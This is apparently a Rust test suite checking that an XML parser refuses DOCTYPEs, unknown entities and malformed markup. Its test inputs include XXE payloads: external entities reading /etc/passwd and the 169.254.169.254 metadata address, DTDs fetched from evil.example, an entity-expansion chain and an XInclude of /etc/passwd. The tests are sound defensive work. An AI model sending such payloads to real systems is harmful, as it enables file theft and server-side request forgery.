//! Document types, entities, and markup that is not well-formed.

use super::{ACCEPTED, CHARACTER, DOCTYPE, ENTITY, MALFORMED, around, check};

#[test]
fn a_document_type_or_an_unknown_entity_is_refused() {
    let body = "<event><action>a</action><type>t</type><object><t>&x;</t></object></event>";
    check(&[
        (&format!("<!DOCTYPE event>{body}"), DOCTYPE),
        (
            &format!("<!DOCTYPE event [<!ENTITY x \"y\">]>{body}"),
            DOCTYPE,
        ),
        (
            &format!("<!DOCTYPE event [<!ENTITY a \"aaaa\"><!ENTITY x \"&a;&a;&a;&a;\">]>{body}"),
            DOCTYPE,
        ),
        (
            &format!("<!DOCTYPE event [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>{body}"),
            DOCTYPE,
        ),
        (
            &format!("<!DOCTYPE event [<!ENTITY x SYSTEM \"http://169.254.169.254/\">]>{body}"),
            DOCTYPE,
        ),
        (
            &format!(
                "<!DOCTYPE event [<!ENTITY % x SYSTEM \"http://evil.example/x.dtd\"> %x;]>{body}"
            ),
            DOCTYPE,
        ),
        (
            &format!("<!DOCTYPE event SYSTEM \"http://evil.example/x.dtd\">{body}"),
            DOCTYPE,
        ),
        (
            &format!("<!DOCTYPE event PUBLIC \"-//X//Y\" \"x.dtd\">{body}"),
            DOCTYPE,
        ),
        ("<!DOCTYPE", DOCTYPE),
        ("<!DOCTYPE>", DOCTYPE),
        (
            "<!DOCTYPE html><html><body>502 Bad Gateway</body></html>",
            DOCTYPE,
        ),
        ("<!doctype html><html></html>", MALFORMED),
        (&around("<!DOCTYPE x>"), DOCTYPE),
        (&format!("{}<!DOCTYPE x>", around("a")), DOCTYPE),
        (&around("<!ENTITY x \"y\">"), MALFORMED),
        (body, ENTITY),
        (&around("&nbsp;"), ENTITY),
        (&around("&AMP;"), ENTITY),
        (&around("&a b;"), MALFORMED),
        (&around("&;"), MALFORMED),
        (&around("& "), MALFORMED),
        (&around("&amp"), MALFORMED),
        (&around("&amp&lt;"), MALFORMED),
        (&around("AT&T"), MALFORMED),
        (&around("&1;"), MALFORMED),
        (&around("&amp;&lt;&gt;&quot;&apos;"), ACCEPTED),
    ]);
}

#[test]
fn broken_markup_is_refused() {
    check(&[
        (&around("<>"), MALFORMED),
        (&around("<></>"), MALFORMED),
        (&around("<1a/>"), MALFORMED),
        (&around("<-a/>"), MALFORMED),
        (&around("<.a/>"), MALFORMED),
        (&around("< a/>"), MALFORMED),
        (&around("<a/ >"), MALFORMED),
        (&around("<a / >"), MALFORMED),
        (&around("<a//>"), MALFORMED),
        (&around("</>"), MALFORMED),
        (&around("<a></ a>"), MALFORMED),
        (&around("<a></a b=\"c\">"), MALFORMED),
        (&around("<a></A>"), MALFORMED),
        (&around("<a><b></a></b>"), MALFORMED),
        (&around("</b>"), MALFORMED),
        (&around("<a"), MALFORMED),
        (&around("<a<b/>"), MALFORMED),
        (&around("<a\u{D7}/>"), MALFORMED),
        (&around("<a></a >"), ACCEPTED),
        (&around("<a />"), ACCEPTED),
        (&around("<a\n/>"), ACCEPTED),
        (&around("<é-1._:/>"), ACCEPTED),
        (&around("]]>"), MALFORMED),
        (&around("]]"), ACCEPTED),
        (&around("]&#93;>"), ACCEPTED),
        (&around("]<!-- -->]>"), ACCEPTED),
        (&around(">"), ACCEPTED),
        (&around("<![CDATA[<&]]]]><![CDATA[>]]>"), ACCEPTED),
        (&around("<![CDATA[x]]"), MALFORMED),
        (&around("<![cdata[x]]>"), MALFORMED),
        (&around("<![CDATA"), MALFORMED),
        (&around("<!-- a -- b -->"), MALFORMED),
        (&around("<!-- a --->"), MALFORMED),
        (&around("<!-->"), MALFORMED),
        (&around("<!--->"), MALFORMED),
        (&around("<!---->"), ACCEPTED),
        (&around("<!-- - -->"), ACCEPTED),
        (&around("<!-- <a> &x; ]]> -->"), ACCEPTED),
        (&around("<!-- x"), MALFORMED),
        (&around("<!x>"), MALFORMED),
        (&around("<!>"), MALFORMED),
    ]);
}

#[test]
fn broken_attributes_are_refused() {
    check(&[
        (&around("<a b/>"), MALFORMED),
        (&around("<a b=/>"), MALFORMED),
        (&around("<a b=c/>"), MALFORMED),
        (&around("<a =\"c\"/>"), MALFORMED),
        (&around("<a \"c\"/>"), MALFORMED),
        (&around("<a b=\"c/>"), MALFORMED),
        (&around("<a b=\"c'/>"), MALFORMED),
        (&around("<a b=\"c\"d=\"e\"/>"), MALFORMED),
        (&around("<a b=\"c\" b=\"c\"/>"), MALFORMED),
        (&around("<a b=\"<\"/>"), MALFORMED),
        (&around("<a b=\"&x;\"/>"), ENTITY),
        (&around("<a b=\"&\"/>"), MALFORMED),
        (&around("<a b=\"&amp\"/>"), MALFORMED),
        (&around("<a b=\"&#1;\"/>"), CHARACTER),
        (&around("<a 1=\"c\"/>"), MALFORMED),
        (&around("<a b=\"c\" /b=\"c\">"), MALFORMED),
        (&around("<a b = 'c\"&gt;>&apos;' ç=\"\"/>"), ACCEPTED),
        (
            &around(
                "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\"/>",
            ),
            ACCEPTED,
        ),
        (
            &around("<a xsi:schemaLocation=\"http://evil.example/x.xsd\"/>"),
            ACCEPTED,
        ),
        (&around("<undeclared:a/>"), ACCEPTED),
    ]);
}

#[test]
fn a_document_without_exactly_one_root_is_refused() {
    let body = around("a");
    check(&[
        ("", MALFORMED),
        (" \n\t", MALFORMED),
        ("<!-- only a comment -->", MALFORMED),
        (&format!("{body}{body}"), MALFORMED),
        (&format!("{body}<a/>"), MALFORMED),
        (&format!("text{body}"), MALFORMED),
        (&format!("{body}text"), MALFORMED),
        (&format!("{body}&amp;"), MALFORMED),
        (&format!("&#32;{}", "<event/>"), MALFORMED),
        (&format!("{body}<![CDATA[]]>"), MALFORMED),
        (&format!("{body}</event>"), MALFORMED),
        (&format!("{body}\0"), CHARACTER),
        (&format!("{body} \r\n<!-- end --><?pi?>\n"), ACCEPTED),
        ("{\"type\":\"account\"}", MALFORMED),
        ("params[xml]=%3Cevent%3E", MALFORMED),
        (
            "<html><head><title>502</title></head><body><hr><center>nginx</center></body></html>",
            MALFORMED,
        ),
    ]);
}
